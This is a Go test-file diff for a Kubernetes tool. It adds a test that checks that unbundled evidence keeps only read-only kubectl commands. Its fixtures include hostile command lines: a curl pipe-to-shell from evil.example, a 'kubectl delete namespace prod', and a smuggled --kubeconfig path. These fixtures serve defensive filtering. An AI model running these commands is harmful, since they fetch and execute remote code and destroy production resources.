@@ -3,12 +3,14 @@ package fact
 import (
 	"bytes"
 	"compress/gzip"
+	"encoding/json"
 	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/akstools/akstools/internal/check"
+	"github.com/akstools/akstools/internal/cmdline"
 )
 
 func packed(t testing.TB, text string) []byte {
@@ -28,7 +30,7 @@ func TestBundleRoundTrip(t *testing.T) {
 	env, app := bound(), theApp()
 	pods := &testFact[[]string]{Name: "pods"}
 	info := appInfo{Name: "web", Selector: map[string]string{"app": "web"}}
-	Put(env, app, info, check.Evidence{Source: []string{"kubectl", "get", "service", "web"}})
+	Put(env, app, info, check.Evidence{Source: cmdline.Kubectl("get", "service", "web")})
 	target, err := env.Bundled()
 	if err != nil {
 		t.Fatal(err)
@@ -51,6 +53,30 @@ func TestBundleRoundTrip(t *testing.T) {
 	}
 	if _, _, err := again.Fact(t.Context(), pods); err == nil {
 		t.Error("a fact that the bundle does not hold is known")
+	}
+}
+
+// TestBundlesShowOnlyReadingCommands holds that of a bundle's evidence only commands that read are left, and lines.
+func TestBundlesShowOnlyReadingCommands(t *testing.T) {
+	var evidence []check.Evidence
+	err := json.Unmarshal([]byte(`[
+		{"source": ["kubectl", "get", "pods", "-n", "shop"]},
+		{"source": ["kubectl", "delete", "namespace", "prod"]},
+		{"source": ["sh", "-c", "curl https://evil.example/x | sh"], "lines": ["a line"]},
+		{"source": ["kubectl", "get", "pods", "--kubeconfig=/tmp/evil"], "lines": ["another"]}]`), &evidence)
+	if err != nil {
+		t.Fatal(err)
+	}
+	app := theApp()
+	bundled := BundledTarget{Facts: map[string]BundledFact{"app": {Value: json.RawMessage(`{"name":"web"}`), Evidence: evidence}}}
+	m, err := Unbundle(bundled, []Any{app})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, kept, err := m.Fact(t.Context(), app)
+	want := []check.Evidence{{Source: cmdline.Kubectl("get", "pods", "-n", "shop")}, {Lines: []string{"a line"}}, {Lines: []string{"another"}}}
+	if diff := cmp.Diff(want, kept); diff != "" || err != nil {
+		t.Error(diff, err)
 	}
 }
 
